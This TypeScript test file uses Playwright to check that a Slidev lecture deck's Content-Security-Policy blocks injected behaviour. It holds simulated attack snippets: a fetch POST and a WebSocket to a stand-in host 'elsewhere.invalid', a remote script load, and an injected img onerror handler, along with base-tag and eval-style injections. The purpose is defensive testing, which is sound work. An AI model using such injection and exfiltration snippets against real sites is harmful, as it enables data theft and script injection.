import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest'
import { readDeck } from '../../scripts/deck/readDeck.ts'
import { launchBrowser } from '../../scripts/render/browser.ts'
import type { LoopbackServer } from '../../scripts/deck/loopbackServer.ts'
import { serveFolder } from '../../scripts/render/staticServer.ts'

interface Violation {
  directive: string
  blocked: string
}
declare global {
  interface Window {
    violations: Violation[]
  }
}

const lecture = inject('lecture')
const plain = inject('plain')
const PIXEL = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')

let browser: Browser
let context: BrowserContext
const servers: LoopbackServer[] = []
/** Addresses of other hosts that left the browser. */
let left: string[]
const editions = { site: '', 'deck.html': `file://${join(lecture.out, 'speaker/deck.html')}` }
const plainEditions = { site: '', 'deck.html': `file://${join(plain.out, 'speaker/deck.html')}` }

beforeAll(async () => {
  browser = await launchBrowser()
  for (const [urls, { out }] of [
    [editions, lecture],
    [plainEditions, plain],
  ] as const) {
    const server = await serveFolder(join(out, 'site'))
    servers.push(server)
    urls.site = server.url
  }
})
beforeEach(async () => {
  context = await browser.newContext({ viewport: { width: 1280, height: 720 } })
  await context.addInitScript(() => {
    window.violations = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      window.violations.push({ directive: effectiveDirective, blocked: blockedURI }),
    )
  })
  left = []
  await context.route(/^(?:https?|wss?):\/\/(?!127\.0\.0\.1)/, (route) => {
    left.push(route.request().url())
    return route.fulfill({
      contentType: 'image/gif',
      body: PIXEL,
      headers: { 'access-control-allow-origin': '*' },
    })
  })
})
afterEach(() => context.close())
afterAll(async () => {
  await browser.close()
  await Promise.all(servers.map((server) => server.close()))
})

async function open(url: string): Promise<Page> {
  const page = await context.newPage()
  await page.goto(url)
  await page.locator('.slidev-layout').first().waitFor({ state: 'attached' })
  return page
}

// On the site, the console says the same: lectureSite.test.ts walks there.
it.each(['', 'presenter/'])('our lecture needs nothing that its policy stops, at #/%s', async (route) => {
  const { deck } = await readDeck(lecture.entry, new AbortController().signal)
  const page = await open(`${editions['deck.html']}#/${route}1`)
  for (const { no, frontmatter } of deck.slides) {
    const clicks = Number(frontmatter['clicks'] ?? 0)
    await page.evaluate((hash) => (location.hash = hash), `#/${route}${no}?clicks=${clicks}`)
    await page.locator(`.slidev-page-${no} .slidev-layout`).first().waitFor()
  }
  expect(await page.evaluate(() => window.violations)).toEqual([])
  expect(left).toEqual([])
})

describe.each(['site', 'deck.html'] as const)('the policy of our lecture, in %s', (edition) => {
  it.each(Object.keys(attempts))('lets nobody %s', async (attempt) => {
    const page = await open(editions[edition])
    const { run, directive } = attempts[attempt as keyof typeof attempts]
    await page.evaluate(run)
    await page.waitForFunction(() => window.violations.length > 0)
    expect((await page.evaluate(() => window.violations)).map((violation) => violation.directive)).toContain(
      directive,
    )
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
    expect(left).toEqual([])
  })

  it('leaves the deck its own workers and downloads', async () => {
    const page = await open(editions[edition])
    const answer = await page.evaluate(
      () =>
        new Promise((resolve, reject) => {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("from a worker")'])))
          worker.onmessage = ({ data }) => resolve(data)
          worker.onerror = () => reject(new Error('no worker'))
        }),
    )
    expect(answer).toBe('from a worker')
    const download = page.waitForEvent('download')
    await page.evaluate(() => {
      const link = document.createElement('a')
      Object.assign(link, { href: URL.createObjectURL(new Blob(['kept'])), download: 'kept.txt' }).click()
    })
    expect(await readFile(await (await download).path(), 'utf8')).toBe('kept')
    expect(await page.evaluate(() => window.violations)).toEqual([])
  })
})

/** Run in the page, each as a script would that somebody brought into it. */
const attempts = {
  'show an image of another host': {
    directive: 'img-src',
    run: () => void (new Image().src = 'https://elsewhere.invalid/seen.png'),
  },
  'send to another host': {
    directive: 'connect-src',
    run: () =>
      void fetch('https://elsewhere.invalid/told', { method: 'POST', body: 'a' }).catch(() => undefined),
  },
  'open a socket to another host': {
    directive: 'connect-src',
    run: () => void new WebSocket('wss://elsewhere.invalid/'),
  },
  'show a page of another host': {
    directive: 'frame-src',
    run: () =>
      document.body.append(
        Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.invalid/' }),
      ),
  },
  'run a script of another host': {
    directive: 'script-src-elem',
    run: () =>
      document.head.append(
        Object.assign(document.createElement('script'), { src: 'https://elsewhere.invalid/a.js' }),
      ),
  },
  'run a script put into the page': {
    directive: 'script-src-elem',
    run: () =>
      document.head.append(Object.assign(document.createElement('script'), { text: 'window.ran = true' })),
  },
  'run an attribute put into the page': {
    directive: 'script-src-attr',
    run: () =>
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = true">'),
  },
  'run a text': {
    directive: 'script-src',
    // Later: what a test evaluates itself may evaluate more.
    run: () =>
      void setTimeout(() => {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- what is refused
        new Function('window.ran = true')()
      }),
  },
  'change what addresses start from': {
    directive: 'base-uri',
    run: () =>
      document.head.append(
        Object.assign(document.createElement('base'), { href: 'https://elsewhere.invalid/' }),
      ),
  },
} satisfies Record<string, { directive: string; run: () => void }>

describe.each(['site', 'deck.html'] as const)('the policy of a deck that names hosts, in %s', (edition) => {
  it('lets it show the image that it names, and set the fonts of its provider', async () => {
    const page = await open(`${plainEditions[edition]}#/4`)
    const image = page.locator('.slidev-page-4 img[src^="https://images.invalid/"]')
    await image.evaluate((element: HTMLImageElement) => element.decode())
    expect(await image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(1)
    expect(left.some((url) => url.startsWith('https://fonts.googleapis.com/'))).toBe(true)
    expect(await page.evaluate(() => window.violations)).toEqual([])
  })

  it('lets its own event attributes run', async () => {
    const page = await open(`${plainEditions[edition]}#/8`)
    const word = page.locator('.slidev-page-8').getByText('Click here.')
    await word.click()
    expect(await word.getAttribute('title')).toBe('clicked')
    expect(await page.evaluate(() => window.violations)).toEqual([])
  })

  it.each(['show an image of another host', 'run a script of another host'] as const)(
    'lets nobody %s',
    async (attempt) => {
      const page = await open(plainEditions[edition])
      await page.evaluate(attempts[attempt].run)
      await page.waitForFunction(() => window.violations.length > 0)
      expect(left.filter((url) => url.includes('elsewhere'))).toEqual([])
    },
  )
})

it('the one file runs two scripts, by their hashes', async () => {
  const html = await readFile(join(lecture.out, 'speaker/deck.html'), 'utf8')
  const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1]
  expect(policy).toMatch(/; script-src(?: 'sha256-[\w+/]{43}='){2}; /)
  expect(html.slice(0, 1024)).toMatch(/<meta charset/i)
})
